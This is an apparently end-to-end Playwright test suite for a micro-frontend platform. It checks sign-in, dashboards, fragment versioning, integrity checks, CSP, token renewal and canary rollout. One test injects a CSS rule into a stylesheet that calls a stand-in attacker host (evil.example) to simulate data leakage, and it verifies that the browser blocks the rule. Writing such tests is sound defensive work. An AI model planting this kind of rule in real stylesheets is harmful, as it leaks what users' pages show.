"""The platform as its users see it, in Chromium, against every real process."""

import re
import subprocess
import sys
import uuid
from pathlib import Path

import httpx
import jwt
from playwright.sync_api import Page, expect

from conftest import free_port, wait_for_port
from tests.e2e.browser import dump, screenshot, serious_accessibility_violations, sign_in
from tests.e2e.platform_processes import Platform
from tests.e2e.seed import (
    COLLEAGUE_NAME,
    Seeded,
    copy_version,
    hand_written_version,
    live_dashboard,
    publish,
)


def kpi(page: Page, name: str):
    return page.locator(f"[data-kpi='{name}'] .kpi-value")


def nav_links(page: Page):
    return page.get_by_role("navigation", name="Main").get_by_role("link")


def test_a_new_member_signs_up_uses_the_keyboard_and_signs_out(
    page: Page, platform: Platform, seeded: Seeded
) -> None:
    email = f"member-{uuid.uuid4().hex[:8]}@e2e.example"
    page.goto("/register")
    screenshot(page, "sign-up")
    page.get_by_label("Full name").fill("Mia Member")
    page.get_by_label("E-mail").fill(email)
    page.get_by_label("Password").fill("a-long-passphrase")
    page.get_by_role("button", name="Create account").click()
    page.wait_for_url("**/dashboard")
    expect(page.get_by_role("heading", name="Team dashboard")).to_be_visible()
    # A member has no projects yet: the dashboard says so instead of showing zeros.
    expect(page.get_by_text("No tasks yet")).to_be_visible()

    # Only what a member may see is offered, and the admin fragment is not even loadable.
    expect(nav_links(page)).to_have_text(["Dashboard", "Projects"])
    page.goto("/admin/users")
    expect(page.get_by_role("heading", name="Page not found")).to_be_visible()
    screenshot(page, "not-found")

    # The header names the user menu by the display name given at sign-up.
    page.get_by_role("button", name=re.compile("Mia Member")).click()
    page.get_by_role("button", name="Sign out").click()
    page.wait_for_url("**/login")
    page.goto("/dashboard")
    page.wait_for_url(re.compile(r"/login\?next=%2Fdashboard$"))

    # Signing in again with the keyboard alone: the heading has focus, Tab reaches the fields.
    page.keyboard.press("Tab")
    page.keyboard.type(email)
    page.keyboard.press("Tab")
    page.keyboard.type("a-long-passphrase")
    page.keyboard.press("Enter")
    page.wait_for_url("**/dashboard")
    expect(page.get_by_role("heading", name="Team dashboard")).to_be_visible()


def test_sign_in_refuses_a_wrong_password_with_a_message(page: Page, seeded: Seeded) -> None:
    page.goto("/login")
    page.get_by_label("E-mail").fill("admin@e2e.example")
    page.get_by_label("Password").fill("not-the-password")
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("alert")).to_have_text("The e-mail or password is not right.")
    assert serious_accessibility_violations(page) == []
    screenshot(page, "sign-in")


def test_dashboard_shows_the_seeded_figures_and_follows_changes_live(
    page: Page, platform: Platform, seeded: Seeded
) -> None:
    with platform.api(seeded.admin_token) as api:
        stats = api.get("/api/core/stats").json()
    open_now = stats["by_status"].get("todo", 0) + stats["by_status"].get("in_progress", 0)
    assert open_now > 0

    sign_in(page)
    expect(kpi(page, "open")).to_have_text(str(open_now))
    expect(kpi(page, "in-progress")).to_have_text(str(stats["by_status"].get("in_progress", 0)))
    expect(page.locator(".live")).to_contain_text("Live")
    # Assignees by name, from the auth service's directory; the signed-in admin is "You".
    per_assignee = page.get_by_role("region", name="Open tasks per assignee")
    expect(per_assignee.locator(".bar-label", has_text=COLLEAGUE_NAME)).to_have_count(1)
    expect(per_assignee.locator(".bar-label", has_text="You")).to_have_count(1)
    expect(page.get_by_role("region", name="Tasks").get_by_role("table")).to_contain_text("task")
    assert serious_accessibility_violations(page) == [], dump(
        serious_accessibility_violations(page)
    )
    screenshot(page, "dashboard")

    page.evaluate("window.__sameDocument = true")
    with platform.api(seeded.admin_token) as api:
        todo = api.get(
            f"/api/core/projects/{seeded.project_id}/tasks", params={"status": "todo", "limit": 1}
        )
        task = todo.json()["items"][0]
        api.patch(f"/api/core/tasks/{task['id']}", json={"status": "done"}).raise_for_status()
    expect(kpi(page, "open")).to_have_text(str(open_now - 1))
    assert page.evaluate("window.__sameDocument") is True, "the page was reloaded"


def test_admin_activates_a_new_dashboard_version_and_rolls_it_back(
    page: Page, platform: Platform, seeded: Seeded
) -> None:
    current = seeded.versions["dashboard"]
    copy_version(platform, "dashboard", current, "1.1.0", "Team dashboard", "Team dashboard 1.1")
    publish(platform, seeded.admin_token, "dashboard", "1.1.0")

    sign_in(page)
    nav_links(page).filter(has_text="Admin").click()
    # A client-side move to another fragment names the page and puts focus on its content.
    expect(page).to_have_title("Admin · Platform")
    expect(page.locator("main")).to_be_focused()
    page.get_by_role("link", name="Fragments").click()
    card = page.locator("article[data-fragment='dashboard']")
    card.get_by_role("button", name="Activate 1.1.0").click()
    page.get_by_role("dialog").get_by_role("button", name="Activate").click()
    expect(card.get_by_test_id("active-version")).to_have_text("1.1.0")
    assert serious_accessibility_violations(page) == [], dump(
        serious_accessibility_violations(page)
    )
    screenshot(page, "admin-fragments")

    page.goto("/dashboard")
    expect(page.get_by_role("heading", name="Team dashboard 1.1")).to_be_visible()

    page.goto("/admin/fragments")
    card.get_by_role("button", name=f"Roll back to {current}").click()
    page.get_by_role("dialog").get_by_role("button", name="Roll back").click()
    expect(card.get_by_test_id("active-version")).to_have_text(current)
    page.goto("/dashboard")
    expect(page.get_by_role("heading", name="Team dashboard", exact=True)).to_be_visible()


def test_a_tampered_version_shows_an_error_card_while_the_rest_keeps_working(
    page: Page, platform: Platform, seeded: Seeded
) -> None:
    current = seeded.versions["dashboard"]
    entry = copy_version(
        platform, "dashboard", current, "1.2.0", "Team dashboard", "Team dashboard 1.2"
    )
    publish(platform, seeded.admin_token, "dashboard", "1.2.0")
    entry.write_text(entry.read_text() + "\n// changed after publishing\n")
    with live_dashboard(platform, seeded, "1.2.0"):
        sign_in(page)
        card = page.get_by_role("alert").filter(has_text="could not be shown")
        expect(card).to_contain_text("integrity")
        screenshot(page, "fragment-error-card")

        # The shell and the other fragment go on working in the same page.
        nav_links(page).filter(has_text="Admin").click()
        expect(page.get_by_role("heading", name="Administration")).to_be_visible()
        expect(page.get_by_role("heading", name="Users")).to_be_visible()
        expect(page.get_by_role("cell", name="admin@e2e.example", exact=True)).to_be_visible()
        screenshot(page, "admin-users")


def test_a_tampered_stylesheet_shows_an_error_card_instead_of_applying(
    page: Page, platform: Platform, seeded: Seeded
) -> None:
    current = seeded.versions["dashboard"]
    copy_version(platform, "dashboard", current, "1.6.0", "Team dashboard", "Team dashboard 1.6")
    publish(platform, seeded.admin_token, "dashboard", "1.6.0")
    stylesheet = platform.fragment_dirs["dashboard"] / "1.6.0" / "entry.css"
    # What a compromised fragment host could serve: rules that leak what the page shows.
    stylesheet.write_text(
        stylesheet.read_text() + "\n[data-kpi] { background: url(//evil.example/leak); }\n"
    )
    with live_dashboard(platform, seeded, "1.6.0"):
        sign_in(page)
        card = page.get_by_role("alert").filter(has_text="could not be shown")
        expect(card).to_contain_text("integrity")
        expect(card).to_contain_text("entry.css")
        expect(card).to_contain_text("Failure: integrity")
        # Refused by the browser: neither applied in the fragment's root nor mounted.
        applied = page.evaluate(
            """() => [...document.querySelector('[data-fragment="dashboard"]').shadowRoot
                       .styleSheets].map((sheet) => sheet.href)"""
        )
        assert applied == []
        expect(page.locator("[data-kpi]")).to_have_count(0)


def test_admin_reads_the_audit_log(page: Page, seeded: Seeded) -> None:
    sign_in(page)
    page.goto("/admin/audit")
    expect(page.get_by_role("heading", name="Audit log")).to_be_visible()
    page.get_by_label("Action").fill("fragment.activated")
    page.get_by_role("button", name="Apply filters").click()
    expect(page.get_by_role("row").nth(1)).to_contain_text("fragment.activated")
    # The seed activated it with the admin's token: the actor reads as their e-mail, not an id.
    expect(page.get_by_role("row").nth(1)).to_contain_text("admin@e2e.example")
    screenshot(page, "admin-audit")


def test_gateway_serves_the_shell_with_import_map_and_csp(
    platform: Platform, seeded: Seeded
) -> None:
    cookies = {"farm_access": seeded.admin_token}
    response = httpx.get(f"{platform.url}/some/deep/page", cookies=cookies, timeout=10)
    assert response.status_code == 200
    assert '<script type="importmap"' in response.text
    assert "/shell/vendor/react.js" in response.text
    directives = dict(
        directive.split(" ", 1)
        for directive in response.headers["content-security-policy"].split("; ")
    )
    assert "'unsafe-inline'" not in directives["script-src"]
    assert "'unsafe-inline'" not in directives["style-src"]
    # The origins the registry recorded for the page's fragments, and nothing configured on
    # the gateway: here one development host serves every fragment.
    assert directives["style-src"].split() == ["'self'", platform.fragments_origin]
    anonymous = httpx.get(f"{platform.url}/some/deep/page", timeout=10)
    assert platform.fragments_origin not in anonymous.headers["content-security-policy"]


def fragment_stylesheets(page: Page, fragment: str) -> dict:
    """Where the styles of the page and of a fragment's shadow root come from."""
    return page.evaluate(
        """(name) => {
            const root = document.querySelector(`[data-fragment="${name}"]`).shadowRoot;
            const hrefs = (sheets) => [...sheets].map((sheet) => sheet.href);
            return {
                document: hrefs(document.styleSheets),
                shadow: hrefs(root.styleSheets),
                inline: document.querySelectorAll("style").length
                    + root.querySelectorAll("style").length,
            };
        }""",
        fragment,
    )


def test_fragments_are_styled_by_their_own_stylesheets_under_a_strict_csp(
    page: Page, platform: Platform, seeded: Seeded
) -> None:
    # The page fixture fails the test on any CSP violation while this signs in and opens the
    # dashboard and the admin page; here the styles are checked to have arrived all the same.
    sign_in(page)
    expect(kpi(page, "open")).to_have_css("font-weight", "700")
    expect(kpi(page, "open")).to_have_css("font-size", "32px")
    dashboard = fragment_stylesheets(page, "dashboard")
    base = platform.fragment_urls["dashboard"]
    assert dashboard["shadow"] == [f"{base}/{seeded.versions['dashboard']}/entry.css"]
    # The fragment's rules stay in its shadow root: the shell's document has only its own.
    assert dashboard["document"] and all(
        href.startswith(f"{platform.url}/shell/") for href in dashboard["document"]
    )
    assert dashboard["inline"] == 0

    nav_links(page).filter(has_text="Admin").click()
    tabs = page.locator(".tabs")
    expect(tabs).to_have_css("display", "flex")
    expect(tabs).to_have_css("list-style-type", "none")
    admin = fragment_stylesheets(page, "admin")
    base = platform.fragment_urls["admin"]
    assert admin["shadow"] == [f"{base}/{seeded.versions['admin']}/entry.css"]
    assert admin["inline"] == 0


def test_a_version_that_throws_on_mount_shows_an_error_card_and_is_reported(
    page: Page, platform: Platform, seeded: Seeded
) -> None:
    hand_written_version(
        platform, "1.3.0", 'export function mount() { throw new Error("the chart exploded"); }\n'
    )
    publish(platform, seeded.admin_token, "dashboard", "1.3.0")
    with live_dashboard(platform, seeded, "1.3.0"):
        sign_in(page)
        card = page.get_by_role("alert").filter(has_text="could not be shown")
        expect(card).to_contain_text("the chart exploded")
        expect(card).to_contain_text("Failure: mount")
        with platform.api(seeded.admin_token) as api:
            health = api.get("/api/core/fragments/dashboard/health").json()
        served = next(v for v in health["versions"] if v["version"] == "1.3.0")
        assert served["failures_by_kind"]["mount"] == 1, health


def test_a_version_that_throws_while_rendering_shows_an_error_card(
    page: Page, platform: Platform, seeded: Seeded
) -> None:
    hand_written_version(
        platform,
        "1.4.0",
        'import { renderFragment } from "@platform/sdk";\n'
        'import { jsx } from "react/jsx-runtime";\n'
        'function Broken() { throw new Error("render exploded"); }\n'
        "export function mount(element, context) {\n"
        "  return renderFragment(element, context, jsx(Broken, {}));\n"
        "}\n",
    )
    publish(platform, seeded.admin_token, "dashboard", "1.4.0")
    with live_dashboard(platform, seeded, "1.4.0"):
        sign_in(page)
        card = page.get_by_role("alert").filter(has_text="could not be shown")
        expect(card).to_contain_text("render exploded")
        expect(card).to_contain_text("Failure: runtime")
        card.get_by_role("button", name="Try again").click()
        expect(card).to_contain_text("render exploded")
        nav_links(page).filter(has_text="Admin").click()
        expect(page.get_by_role("heading", name="Administration")).to_be_visible()


def test_the_session_renews_the_access_token_before_it_expires(page: Page, seeded: Seeded) -> None:
    # The page's clock is under the test's control: 14 minutes pass in an instant, while
    # the renewal itself is a real request with the real httpOnly refresh cookie.
    page.clock.install()
    sign_in(page)
    expect(page.get_by_role("heading", name="Team dashboard")).to_be_visible()
    renewals: list[int] = []
    page.on("response", lambda r: "/api/auth/jwt/refresh" in r.url and renewals.append(r.status))
    page.clock.fast_forward("13:00")
    page.wait_for_timeout(500)
    assert renewals == [], "renewed long before expiry"
    with page.expect_response("**/api/auth/jwt/refresh") as renewal:
        page.clock.fast_forward("01:30")
    assert renewal.value.status == 200
    # The renewed token works for the fragment's next request.
    tasks = page.get_by_role("region", name="Tasks")
    tasks.get_by_label("Status").select_option("done")
    expect(tasks.get_by_role("row").nth(1)).to_contain_text("Done")


def test_a_forgotten_password_is_reset_through_the_mailed_link(
    page: Page, platform: Platform, seeded: Seeded
) -> None:
    address = f"forgetful-{uuid.uuid4().hex[:8]}@e2e.example"
    registered = httpx.post(
        f"{platform.url}/api/auth/register",
        json={"email": address, "password": "the-first-password"},
        timeout=15,
    )
    registered.raise_for_status()

    page.goto("/login")
    page.get_by_role("link", name="Forgot your password?").click()
    page.get_by_label("E-mail").fill(address)
    page.get_by_role("button", name="Send reset link").click()
    expect(page.get_by_role("status").filter(has_text="we have sent it a link")).to_be_visible()

    link = re.search(r"http://\S+/reset-password\?token=\S+", platform.mail_to(address))
    assert link, "the mail has no reset link"
    page.goto(link.group(0))
    page.get_by_label("New password").fill("the-second-password")
    page.get_by_role("button", name="Set password").click()
    expect(page.get_by_role("status").filter(has_text="Your password was changed")).to_be_visible()
    sign_in(page, address, "the-second-password")


def test_admin_registers_a_fragments_own_origin_and_removes_it(
    page: Page, platform: Platform, seeded: Seeded
) -> None:
    def origins() -> list[str]:
        with platform.api(seeded.admin_token) as api:
            return api.get("/api/core/fragments/dashboard").json()["origins"]

    try:
        sign_in(page)
        page.goto("/admin/fragments")
        card = page.locator("article[data-fragment='dashboard']")
        field = card.get_by_label("Asset origins")
        field.fill("cdn.dashboard.example")
        card.get_by_role("button", name="Save origins").click()
        expect(card.get_by_role("alert")).to_contain_text("cdn.dashboard.example")
        assert origins() == []

        field.fill("https://cdn.dashboard.example")
        card.get_by_role("button", name="Save origins").click()
        expect(card.get_by_role("button", name="Save origins")).to_be_disabled()
        assert origins() == ["https://cdn.dashboard.example"]
        page.reload()
        expect(field).to_have_value("https://cdn.dashboard.example")

        field.fill("")
        card.get_by_role("button", name="Save origins").click()
        dialog = page.get_by_role("dialog")
        expect(dialog).to_contain_text("https://cdn.dashboard.example")
        dialog.get_by_role("button", name="Remove").click()
        expect(card.get_by_role("button", name="Save origins")).to_be_disabled()
        assert origins() == []
    finally:
        with platform.api(seeded.admin_token) as api:
            api.put("/api/core/fragments/dashboard/origins", json={"origins": []})


def test_admin_runs_a_canary_with_the_slider_and_aborts_it(
    page: Page, platform: Platform, seeded: Seeded
) -> None:
    current = seeded.versions["dashboard"]
    copy_version(platform, "dashboard", current, "1.5.0", "Team dashboard", "Team dashboard 1.5")
    publish(platform, seeded.admin_token, "dashboard", "1.5.0")

    try:
        sign_in(page)
        page.goto("/admin/fragments")
        card = page.locator("article[data-fragment='dashboard']")
        card.get_by_label("Canary version").select_option("1.5.0")
        card.get_by_role("slider").fill("100")
        expect(card.locator("output")).to_have_text("100%")
        card.get_by_role("button", name="Start canary").click()
        page.get_by_role("dialog").get_by_role("button", name="Start canary").click()
        expect(card).to_contain_text("1.5.0 for 100% of users")

        page.goto("/dashboard")
        expect(page.get_by_role("heading", name="Team dashboard 1.5")).to_be_visible()

        page.goto("/admin/fragments")
        card.get_by_role("button", name="Abort canary").click()
        page.get_by_role("dialog").get_by_role("button", name="Abort canary").click()
        expect(card.get_by_role("button", name="Start canary")).to_be_visible()
        expect(card).not_to_contain_text("1.5.0 for 100% of users")
        page.goto("/dashboard")
        expect(page.get_by_role("heading", name="Team dashboard", exact=True)).to_be_visible()
    finally:
        with platform.api(seeded.admin_token) as api:
            if api.get("/api/core/fragments/dashboard").json()["canary"]:
                api.post("/api/core/fragments/dashboard/canary/abort").raise_for_status()


def test_a_local_override_loads_the_developers_build_styled(
    page: Page, platform: Platform, seeded: Seeded, tmp_path: Path
) -> None:
    # A developer's local build of the dashboard, served from a loopback port of its own.
    port = free_port()
    build = platform.fragment_dirs["dashboard"] / seeded.versions["dashboard"]
    local = f"http://127.0.0.1:{port}"
    serve = ["platform_common.fragment_host", "--directory", str(build), "--port", str(port)]
    with (tmp_path / "local-host.log").open("wb") as log:
        host = subprocess.Popen(
            [sys.executable, "-m", *serve], env=platform.env, stdout=log, stderr=log
        )
    try:
        wait_for_port("127.0.0.1", port, timeout_s=30)
        admin_id = jwt.decode(seeded.admin_token, options={"verify_signature": False})["sub"]
        with platform.api(seeded.admin_token) as api:
            issued = api.post(
                "/api/core/fragments/dashboard/overrides",
                json={"origin": local, "css": [f"{local}/entry.css"], "subject": admin_id},
            )
        assert issued.status_code == 201, issued.text

        sign_in(page)
        page.goto(f"/dashboard?fragment_override={issued.json()['token']}")
        expect(kpi(page, "open")).to_be_visible()
        # Styled by the local build's stylesheet, linked without integrity, under the strict
        # CSP (the page fixture fails the test on any violation).
        expect(kpi(page, "open")).to_have_css("font-weight", "700")
        styles = fragment_stylesheets(page, "dashboard")
        assert styles["shadow"] == [f"{local}/entry.css"]
        assert styles["inline"] == 0
    finally:
        host.terminate()
        host.wait(timeout=10)
